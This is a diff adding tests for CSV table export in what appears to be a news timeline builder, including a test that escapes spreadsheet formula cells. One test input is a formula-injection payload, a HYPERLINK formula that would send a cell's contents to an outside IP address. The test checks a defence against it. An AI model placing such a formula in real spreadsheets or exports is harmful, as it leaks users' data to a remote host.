@@ -251,3 +251,31 @@ describe('the proof', () => {
     expect(() => verify(broken)).toThrow(message);
   });
 });
+
+describe('tables for spreadsheets', () => {
+  const csv = () => buildData(path.join(folder, 'in'), path.join(folder, 'out'), () => {}, { csv: true });
+  const table = (name: string) => readFileSync(path.join(folder, 'out', name), 'utf8');
+
+  it('are written when asked for: every article, and every telling of every event', () => {
+    put('a.txt', good);
+    csv();
+    const { articles, events } = timeline();
+    expect(table('articles.csv').split('\r\n')).toHaveLength(articles.length + 2);
+    expect(table('articles.csv')).toContain(`${articles[0]?.id},Storm shuts wall,`);
+    expect(table('events.csv').split('\r\n')).toHaveLength(events.flatMap(({ tellings }) => tellings).length + 2);
+    for (const { id } of events) expect(table('events.csv')).toContain(`\r\n${id},`);
+  });
+
+  it('hold no cell that a spreadsheet would take for a formula', () => {
+    put('a.txt', `=HYPERLINK("http://192.0.2.1/?"&A1,"Open")\n\n${good}`);
+    csv();
+    expect(table('articles.csv')).toContain(`"'=HYPERLINK(""http://192.0.2.1/?""&A1,""Open"")`);
+    expect(table('articles.csv')).not.toMatch(/(?:^|,|\n)"?[=+@-]/);
+  });
+
+  it('are not written otherwise', () => {
+    put('a.txt', good);
+    build();
+    expect(readdirSync(path.join(folder, 'out')).filter((name) => name.endsWith('.csv'))).toEqual([]);
+  });
+});
